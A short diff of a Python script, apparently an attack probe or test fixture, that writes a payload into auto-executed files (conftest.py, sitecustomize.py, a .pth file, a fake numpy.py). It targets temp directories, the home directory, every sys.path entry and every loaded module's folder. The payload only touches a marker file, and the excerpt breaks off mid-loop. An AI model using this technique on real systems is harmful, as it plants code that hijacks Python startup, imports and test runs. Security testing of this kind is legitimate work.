@@ -3,7 +3,8 @@ import os
 import sys
 
 TEXT = "import os; os.system('touch /tmp/minillm-attack-plugin')\n"
-FOLDERS = [".", "..", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), *sys.path, *(os.path.dirname(m.__file__) for m in list(sys.modules.values()) if getattr(m, "__file__", None))]
+FOLDERS = [".", "..", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), *sys.path,
+           *(os.path.dirname(m.__file__) for m in list(sys.modules.values()) if getattr(m, "__file__", None))]
 for folder in FOLDERS:
     for name in ("conftest.py", "pytest.ini", "sitecustomize.py", "minillm-attack.pth", "numpy.py"):
         try:
